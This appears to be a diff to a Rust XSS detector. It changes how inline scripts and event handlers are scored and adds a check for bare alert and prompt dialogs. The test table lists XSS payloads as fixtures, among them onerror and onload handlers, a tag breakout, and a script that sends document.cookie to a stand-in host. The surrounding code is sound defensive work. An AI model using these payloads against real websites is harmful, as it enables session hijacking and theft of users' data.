@@ -54,10 +54,10 @@ fn of_tag(part: &Part<'_>, tag: &Tag<'_>, work: &mut usize, hits: &mut Hits) {
     if is(tag.name, b"script") {
         *work += SCRIPT_BYTES_MAX.min(part.text.len() - tag.range.end);
         let (inside, end) = script_text(part.text, tag.range.end);
-        let rule = match (is_payload(part.words, inside), breakout.is_some()) {
+        let rule = match (payload(part.words, inside), breakout.is_some()) {
             (_, true) => "script.breakout",
-            (true, false) => "script.payload",
-            (false, false) => "script.tag",
+            (Some(rule), false) => rule,
+            (None, false) => "script.tag",
         };
         hits.add(rule, start..end);
         return;
@@ -97,7 +97,8 @@ fn of_attribute(part: &Part<'_>, tag: &Tag<'_>, attribute: &Attribute<'_>) -> Op
         let by_itself = part.words.has("load-handler", name);
         let plain = tag::plain_link(value);
         let certain = part.words.any_name("payload-certain", &plain);
-        let is_attack = by_itself && certain && !is(tag.name, b"body")
+        // `onload` of a page is where its own scripts begin.
+        let is_attack = by_itself && certain && (!is(tag.name, b"body") || is_bare_dialog(&plain))
             || part.words.any_name("payload-certain", &plain)
                 && find(&plain, b"document.cookie", 0).is_some();
         return Some(if is_attack { "script.handler-payload" } else { "script.handler" });
@@ -196,20 +197,41 @@ fn script_text(text: &[u8], from: usize) -> (&[u8], usize) {
     }
 }
 
-/// Whether a script is what attacks run: short, and with one of their calls as its first words.
-fn is_payload(words: &Words, inside: &[u8]) -> bool {
+/// The rule for a script that is what attacks run: cookies that are sent away, or one short call.
+fn payload(words: &Words, inside: &[u8]) -> Option<&'static str> {
     let trimmed = inside.trim_ascii();
-    let has = |section| words.any_name(section, trimmed);
-    find(trimmed, b"document.cookie", 0).is_some()
-        && (has("payload")
-            && trimmed.len() < 400
-            && [b"location".as_slice(), b"fetch", b".src", b"alert", b"xmlhttp", b"write"]
-                .iter()
-                .any(|part| find(trimmed, part, 0).is_some()))
-        || trimmed.len() < 120
-            && has("payload-certain")
-            && !trimmed.contains(&b'{')
-            && trimmed.iter().filter(|&&byte| byte == b'\n').count() < 2
+    let has = |part: &[u8]| find(trimmed, part, 0).is_some();
+    if trimmed.len() < 400
+        && has(b"document.cookie")
+        && [b"location".as_slice(), b"fetch", b".src", b"alert", b"xmlhttp", b"write"]
+            .iter()
+            .any(|part| has(part))
+    {
+        return Some("script.payload");
+    }
+    let is_short = trimmed.len() < 120
+        && !trimmed.contains(&b'{')
+        && trimmed.iter().filter(|&&byte| byte == b'\n').count() < 2;
+    if !is_short || !words.any_name("payload-certain", trimmed) {
+        return None;
+    }
+    // A first lesson greets; a test for injection shows a number, an address or its own name.
+    let is_test = is_bare_dialog(trimmed)
+        || [b"xss".as_slice(), b"hack", b"pwn", b"inject", b"document", b"eval(", b"atob", b"fromcharcode"]
+            .iter()
+            .any(|part| has(part));
+    Some(if is_test { "script.payload" } else { "script.dialog" })
+}
+
+/// `alert(1)`, alert`1`, `prompt()`: a dialog that says nothing.
+fn is_bare_dialog(script: &[u8]) -> bool {
+    [b"alert".as_slice(), b"prompt", b"confirm"].iter().any(|name| {
+        let Some(at) = find(script, name, 0) else { return false };
+        let behind = script[at + name.len()..].trim_ascii_start();
+        let Some((b'(' | b'`', argument)) = behind.split_first() else { return false };
+        let argument = argument.iter().find(|byte| !matches!(byte, b'\'' | b'"' | b' '));
+        argument.is_none_or(|byte| byte.is_ascii_digit() || matches!(byte, b')' | b'`' | b'/'))
+    })
 }
 
 /// Where a break-out begins: a quote and `>`, or the end of an element that holds text only, right before the tag.
@@ -276,6 +298,9 @@ mod tests {
             ("<script>alert(1)</script>", "script.payload"),
             ("<ScRiPt >document.location='//e/?c='+document.cookie</sCrIpT>", "script.payload"),
             ("\"><script>x()</script>", "script.breakout"),
+            ("<script>alert('XSS')</script>", "script.payload"),
+            ("<script>alert('Hello!');</script>", "script.dialog"),
+            ("<body onload=alert(1)>", "script.handler-payload"),
             ("<img src=x onerror=alert(1)>", "script.handler-payload"),
             ("<svg/onload=alert`1`>", "script.handler-payload"),
             ("<details open ontoggle=\"confirm(1)\">", "script.handler-payload"),
